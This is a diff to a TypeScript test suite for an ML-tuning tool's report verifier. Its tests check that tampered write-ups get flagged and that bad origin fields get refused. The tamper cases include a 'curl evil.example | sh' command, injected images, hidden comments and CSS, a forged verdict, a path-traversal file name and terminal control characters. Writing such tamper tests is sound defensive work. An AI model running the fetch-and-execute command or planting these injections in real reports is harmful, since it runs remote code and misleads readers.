@@ -4,8 +4,11 @@ import { readFileSync, rmSync } from "node:fs";
 import { join } from "node:path";
 import { after, before, describe, test } from "node:test";
 import { buildFeatures } from "../../src/features";
-import { openStore, tune, type StoredRun } from "../../src/tuning";
+import { openStore, runAll, tune, type StoredRun } from "../../src/tuning";
 import { mask, readOrigin, verifyWriteUp, writeUp, writeUpMarkdown, type WriteUp } from "../../src/writeup";
+import { createRandom } from "../../src/data";
+import { align } from "../../src/writeup/document/align";
+import { tuneCommand } from "../../src/writeup/document/command";
 import { inputError } from "../data/fixtures";
 import { smallTuning, type SmallTuning } from "./small-tuning";
 
@@ -144,14 +147,12 @@ describe("verifyWriteUp", () => {
   test("holds what was written; a run trained again is the same to the bit", async () => {
     const { comparison, reruns, runs } = await verify(markdown, { rerun: 3 });
     assert.deepEqual(
-      [comparison.same, comparison.wrong, comparison.unsourced, comparison.missing],
-      [true, [], [], []],
+      [comparison.same, comparison.wrong, comparison.edited, comparison.unsourced, comparison.missing],
+      [true, [], [], [], []],
     );
-    assert.equal(
-      comparison.numbers,
-      [...markdown.matchAll(LINK)].filter(([, shown]) => !/^s\d/.test(shown)).length +
-        document.blocks.filter(({ kind }) => kind === "chart").length,
-    );
+    const prose = markdown.slice(0, markdown.indexOf("## Where the numbers come from"));
+    const shown = [...prose.matchAll(LINK)].filter(([, number]) => !/^s\d/.test(number));
+    assert.equal(comparison.numbers, shown.length);
     assert.equal(reruns.length, 3);
     assert.ok(reruns.every(({ difference }) => difference === null));
     assert.ok(runs > 20);
@@ -203,6 +204,83 @@ describe("verifyWriteUp", () => {
       (await own("Again: [12.3%](#s999).")).comparison.wrong[0].message,
       /s999, which there is not/,
     );
+  });
+
+  test("what no author may change is wrong, whoever says that the words are edited", async () => {
+    const lines = markdown.split("\n");
+    const answer = lines.findIndex((line) => line.startsWith("> **"));
+    const scores = lines.findIndex((line) => line.includes("On test the candidate gets"));
+    const [first, second] = [...lines[scores].matchAll(LINK)];
+    const swapped = lines[scores]
+      .replace(first[0], "@")
+      .replace(second[0], first[0])
+      .replace("@", second[0])
+      .replace("On test", "In test");
+    const change = (at: number, line: string): string =>
+      lines.map((one, i) => (i === at ? line : one)).join("\n");
+    const attacks: Record<string, string> = {
+      "the verdict in the answer": change(answer, lines[answer].replace(/\*\*\w+:/, "**perfect:")),
+      "numbers that changed places in a reworded line": change(scores, swapped),
+      "a command": markdown.replace("npx lr-lab verify write-up.md", "curl evil.example | sh"),
+      "a picture's address": markdown.replace("charts/verdict.svg", "charts/other.svg"),
+      "a picture of one's own": markdown.replace(
+        "## The question",
+        "![all is well](evil.svg)\n\n## The question",
+      ),
+      "what a comment hides": markdown.replace("## The question", "<!--").replace("## Edge cases", "-->"),
+      "a style": markdown.replace("## The question", "<STYLE>table{display:none}</STYLE>\n\n## The question"),
+      "a whole false answer before the true one": markdown.replace(
+        "> **",
+        `> **approve: ship anything with peak [99](#s1)**\n\n> **`,
+      ),
+      "the plan of another tuning": markdown.replace(small.tuning.plan.id, "0".repeat(64)),
+    };
+    for (const [name, text] of Object.entries(attacks)) {
+      assert.notEqual(text, markdown, name);
+      const { comparison } = await verify(text);
+      assert.equal(comparison.same, false, name);
+      assert.ok(comparison.wrong.length > 0, name);
+    }
+  });
+
+  test("words alone that were changed, moved or added are told, and are not the document", async () => {
+    for (const [name, text] of Object.entries({
+      moved: markdown
+        .replace("## The question", "#")
+        .replace("## Edge cases", "## The question")
+        .replace("#\n", "## Edge cases\n"),
+      "numbers in words": markdown.replace("## The question", "It saves ninety hours.\n\n## The question"),
+      "a number in another dress": markdown.replace(
+        "## The question",
+        "It saves _95.9%_, `12` and ９５.\n\n## The question",
+      ),
+    })) {
+      const { comparison } = await verify(text);
+      assert.equal(comparison.same, false, name);
+      assert.ok(comparison.edited.length > 0, name);
+      if (name.startsWith("a number")) assert.equal(comparison.unsourced.length, 3, name);
+    }
+  });
+
+  test("runs are trained again although this process remembers them", async () => {
+    const { dataset, features, store } = small;
+    const before = await runAll([small.tuning.gate.plan.baseline], features);
+    const [again] = await runAll([small.tuning.gate.plan.baseline], features, { fresh: true });
+    assert.notEqual(again, before[0], "another object, of another training");
+    assert.deepEqual(again.record, before[0].record);
+    let trained = 0;
+    const { reruns } = await verifyWriteUp(markdown, {
+      ...{ dataset, features, store, rerun: 4, seed: 7 },
+      onRerun: () => trained++,
+    });
+    assert.equal(trained, 4);
+    const ids = reruns.map(({ run }) => run);
+    for (const arm of ["baseline", "candidate"] as const) {
+      assert.ok(
+        small.tuning.gate.runs[arm].some((id) => ids.includes(id)),
+        `a run of the ${arm}`,
+      );
+    }
   });
 
   test("a line that was left out is told", async () => {
@@ -263,13 +341,80 @@ describe("readOrigin", () => {
     [
       "a hash that is none",
       (text: string) => text.replace(/"tuning": "[0-9a-f]+"/, '"tuning": "x"'),
-      "tuning must be a hash",
+      "tuning is not as lr-lab writes it",
+    ],
+    [
+      "a version that is more than one",
+      (text: string) => text.replace('"lrLab": "0', '"lrLab": "`\\n\\nAll is well. 0'),
+      "lrLab is not as lr-lab writes it",
+    ],
+    [
+      "a path as the file",
+      (text: string) => text.replace('"file": null', '"file": "../x.csv"'),
+      "file is not",
+    ],
+    ["a file of two lines", (text: string) => text.replace('"file": null', '"file": "a\\nb"'), "file is not"],
+    [
+      "a choice that is none",
+      (text: string) => text.replace('"seeds": 5', '"seeds": 5, "cheat": 1'),
+      "choices.cheat",
+    ],
+    ["no engine", (text: string) => text.replace('"engine": {', '"motor": {'), "engine.name is not"],
+    [
+      "control characters, which reach no terminal",
+      (text: string) => text.replace(/"gate": "[0-9a-f]+"/, '"gate": "\\u001b[2J"'),
+      "gate is not",
     ],
   ] as [string, (text: string) => string, ...string[]][]) {
     test(`refuses ${name}`, () => {
       assert.throws(() => readOrigin(change(markdown), "a.md"), inputError("a.md", ...parts));
     });
   }
+});
+
+describe("tuneCommand", () => {
+  test("is made from what was chosen, quoted for a shell; choices without a flag have none", () => {
+    const ground = { file: "mine.csv", read: {}, choices: {}, masked: true };
+    assert.equal(tuneCommand(ground), "npx lr-lab tune mine.csv");
+    const model = { kind: "mlp", hidden: 64 } as const;
+    const optimizer = { kind: "sgd" } as const;
+    assert.equal(
+      tuneCommand({
+        file: "a b;c.csv",
+        read: { text: "the text", slice: ["x", "y"], seed: 3 },
+        choices: { model, optimizer, seeds: 5, budget: 60 },
+        masked: false,
+      }),
+      "npx lr-lab tune 'a b;c.csv' --text 'the text' --seed 3 --slice x --slice y --model mlp --optimizer sgd --seeds 5 " +
+        "--budget 60 --no-mask",
+    );
+    assert.equal(tuneCommand({ ...ground, choices: { model: { kind: "mlp", hidden: 7 } } }), null);
+    assert.equal(tuneCommand({ ...ground, choices: { epochs: 2 } }), null);
+  });
+});
+
+describe("align", () => {
+  test("what is taken away and what is added, in order", () => {
+    const of = (a: string, b: string) => align([...a], [...b]);
+    assert.deepEqual(of("abc", "abc"), { own: [], absent: [] });
+    assert.deepEqual(of("abxc", "abc"), { own: [2], absent: [] });
+    assert.deepEqual(of("ac", "abc"), { own: [], absent: [1] });
+    assert.deepEqual(of("", "ab"), { own: [], absent: [0, 1] });
+    const moved = of("bca", "abc");
+    assert.deepEqual([moved.own.length, moved.absent.length], [1, 1]);
+  });
+
+  test("what is left of both is the same, whatever they are", () => {
+    const random = createRandom(4);
+    for (let round = 0; round < 200; round++) {
+      const [a, b] = [0, 1].map(() => Array.from({ length: random.int(9) }, () => "xyz"[random.int(3)]));
+      const { own, absent } = align(a, b);
+      assert.deepEqual(
+        a.filter((_, i) => !own.includes(i)),
+        b.filter((_, j) => !absent.includes(j)),
+      );
+    }
+  });
 });
 
 describe("mask", () => {
